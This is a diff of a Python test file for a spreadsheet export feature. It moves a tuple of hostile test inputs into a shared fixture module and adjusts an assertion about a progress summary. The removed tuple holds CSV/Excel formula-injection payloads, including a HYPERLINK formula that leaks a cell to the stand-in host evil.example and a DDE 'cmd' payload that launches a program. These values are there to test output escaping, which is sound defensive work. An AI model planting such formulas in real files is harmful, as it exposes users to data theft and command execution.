@@ -8,16 +8,9 @@ from pathlib import Path
 import pytest
 from openpyxl import load_workbook
 
+from tests.workbench.export.conftest import HOSTILE
 from workbench.errors import InvalidValue, WorkbenchError
 from workbench.export.safety import xlsx_unescape
-
-HOSTILE = (
-    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
-    "+1 555 0100 is the hotline",
-    "-2 degrees was the low",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\tTabbed start of a quote",
-)
 
 
 def rows_by_header(sheet) -> list[dict[str, object]]:  # type: ignore[no-untyped-def]
@@ -183,7 +176,7 @@ def test_export_reports_progress_up_to_the_total(sample, tmp_path: Path) -> None
     report = sample.wb.export(tmp_path / "v.xlsx", progress=lambda done, total, msg: seen.append((done, total)))
     assert seen[0] == (0, 21) and seen[-1] == (21, 21)
     assert report.rows == {"verdicts": 8, "claims": 9, "links": 1, "articles": 3}
-    assert "21" not in report.summary() and "8 verdicts" in report.summary()
+    assert "): 8 verdicts, 9 claims, 1 links, 3 articles in " in report.summary()  # rows, not ticks
 
 
 def test_format_follows_the_file_name_unless_given(sample, tmp_path: Path) -> None:
